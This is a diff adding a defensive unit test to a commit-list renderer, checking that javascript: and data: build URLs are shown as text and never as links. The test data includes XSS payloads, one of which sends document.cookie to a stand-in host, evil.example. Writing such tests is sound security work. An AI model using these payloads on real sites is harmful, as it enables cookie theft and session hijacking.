@@ -29,3 +29,17 @@ describe('Recent commits', () => {
     expect(text).not.toContain(`slipway revert search staging ${'b'.repeat(12)}`);
   });
 });
+
+describe('a build link a ci token stored (#24 attack 5)', () => {
+  it('is a link only when it is http(s): a javascript: or data: URL is shown as text, never as an href', () => {
+    for (const url of [
+      'javascript:fetch(`//evil.example/${document.cookie}`)',
+      'JaVaScRiPt:alert(1)',
+      'data:text/html,<script>1</script>',
+    ]) {
+      const text = commitsSection([{ ...items[1]!, build: { status: 'failed', url } }]).text;
+      expect(text).not.toMatch(/href="(javascript|data):/i);
+      expect(text).toContain('failed');
+    }
+  });
+});
